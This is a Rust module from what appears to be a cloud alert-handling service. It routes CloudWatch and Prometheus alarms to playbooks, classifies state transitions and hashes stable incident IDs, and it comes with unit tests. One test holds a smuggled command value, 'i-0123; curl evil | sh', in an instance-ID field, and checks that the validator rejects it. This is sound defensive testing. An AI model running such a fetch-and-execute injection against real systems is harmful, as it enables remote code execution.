//! Incidents: an alert, routed to a playbook and to the resource it concerns.

use serde::Serialize;
use sha2::{Digest, Sha256};
use std::fmt;

use crate::alert::{AlarmState, Alert};
use crate::error::InputError;
use crate::ids::InstanceId;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum IncidentKind {
    HighCpu,
    /// No playbook matches the alert: notify that nothing was done.
    Unrouted,
}

impl IncidentKind {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::HighCpu => "high_cpu",
            Self::Unrouted => "unrouted",
        }
    }

    /// Short title for subjects and headings.
    pub fn title(self) -> &'static str {
        match self {
            Self::HighCpu => "High CPU",
            Self::Unrouted => "Alert",
        }
    }

    /// Maps a metric (CloudWatch) or alert name (Prometheus) to a playbook.
    pub fn route(metric_or_alert: &str) -> Self {
        match metric_or_alert {
            "CPUUtilization" | "HighCPUUsage" => Self::HighCpu,
            _ => Self::Unrouted,
        }
    }
}

impl fmt::Display for IncidentKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// What the state change means for the responder.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "transition", content = "why")]
pub enum Transition {
    /// Into ALARM: run the playbook.
    Firing,
    /// ALARM → OK: no remediation, a short notice.
    Resolved,
    /// Anything else: nothing to do, with the reason.
    Ignored(String),
}

impl Transition {
    fn of(state: AlarmState, previous: Option<AlarmState>) -> Self {
        use AlarmState::*;
        match (state, previous) {
            (Alarm, Some(Alarm)) => {
                Self::Ignored("alarm was already in ALARM: not a new state change".into())
            }
            (Alarm, _) => Self::Firing,
            (Ok, Some(Alarm)) => Self::Resolved,
            (Ok, _) => Self::Ignored("OK without a preceding ALARM: nothing was firing".into()),
            (InsufficientData, _) => Self::Ignored("INSUFFICIENT_DATA: no data to act on".into()),
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Firing => "firing",
            Self::Resolved => "resolved",
            Self::Ignored(_) => "ignored",
        }
    }
}

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Incident {
    /// Stable for one occurrence of an alarm (same ARN and state-change
    /// time), so a redelivered event maps to the same incident.
    pub id: String,
    pub kind: IncidentKind,
    pub transition: Transition,
    pub instance: Option<InstanceId>,
    pub alert: Alert,
}

impl Incident {
    pub fn from_alert(alert: Alert) -> Result<Self, InputError> {
        let (kind, instance) = match &alert.metric {
            Some(m) => {
                let instance = m
                    .dimensions
                    .get("InstanceId")
                    .map(|v| InstanceId::parse(&format!("{}.dimensions.InstanceId", m.field), v))
                    .transpose()?;
                (IncidentKind::route(&m.name), instance)
            }
            None => (IncidentKind::Unrouted, None),
        };
        Ok(Self {
            id: incident_id(&alert),
            kind,
            transition: Transition::of(alert.state, alert.previous_state),
            instance,
            alert,
        })
    }
}

fn incident_id(alert: &Alert) -> String {
    let key = alert.alarm_arn.as_deref().unwrap_or(&alert.alarm_name);
    let mut h = Sha256::new();
    h.update(key.as_bytes());
    h.update(b"\n");
    h.update(alert.state_timestamp.as_bytes());
    let digest = h.finalize();
    let hex: String = digest[..8].iter().map(|b| format!("{b:02x}")).collect();
    format!("inc-{hex}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::parse_event;

    fn incident(src: &str) -> Result<Incident, InputError> {
        Incident::from_alert(parse_event(src.as_bytes())?.remove(0))
    }

    #[test]
    fn high_cpu_alarm_becomes_a_firing_high_cpu_incident() {
        let i = incident(include_str!("../../events/high-cpu-alarm.json")).unwrap();
        assert_eq!(i.kind, IncidentKind::HighCpu);
        assert_eq!(i.transition, Transition::Firing);
        assert_eq!(i.instance.unwrap().as_str(), "i-0123456789abcdef0");
        assert!(i.id.starts_with("inc-") && i.id.len() == 20, "{}", i.id);
    }

    #[test]
    fn same_occurrence_same_id_new_occurrence_new_id() {
        let src = include_str!("../../events/high-cpu-alarm.json");
        let a = incident(src).unwrap();
        let b = incident(src).unwrap();
        assert_eq!(a.id, b.id);
        let later = src.replace(
            "2026-11-25T02:04:12.152+0000",
            "2026-11-25T05:00:00.000+0000",
        );
        assert_ne!(a.id, incident(&later).unwrap().id);
    }

    #[test]
    fn transitions() {
        use AlarmState::*;
        assert_eq!(Transition::of(Alarm, Some(Ok)), Transition::Firing);
        assert_eq!(Transition::of(Alarm, None), Transition::Firing);
        assert_eq!(
            Transition::of(Alarm, Some(InsufficientData)),
            Transition::Firing
        );
        assert_eq!(Transition::of(Ok, Some(Alarm)), Transition::Resolved);
        assert!(matches!(
            Transition::of(Alarm, Some(Alarm)),
            Transition::Ignored(_)
        ));
        assert!(matches!(
            Transition::of(Ok, Some(InsufficientData)),
            Transition::Ignored(_)
        ));
        assert!(matches!(
            Transition::of(InsufficientData, Some(Ok)),
            Transition::Ignored(_)
        ));
    }

    #[test]
    fn hostile_instance_id_is_rejected_with_its_path() {
        let src = include_str!("../../events/high-cpu-alarm.json")
            .replace("i-0123456789abcdef0", "i-0123; curl evil | sh");
        let err = incident(&src).unwrap_err().to_string();
        assert!(
            err.contains("detail.configuration.metrics[0].metricStat.metric.dimensions.InstanceId"),
            "{err}"
        );
        assert!(err.contains("not an EC2 instance id"), "{err}");
    }

    #[test]
    fn routing() {
        assert_eq!(IncidentKind::route("CPUUtilization"), IncidentKind::HighCpu);
        assert_eq!(IncidentKind::route("HighCPUUsage"), IncidentKind::HighCpu);
        assert_eq!(IncidentKind::route("NetworkIn"), IncidentKind::Unrouted);
    }
}
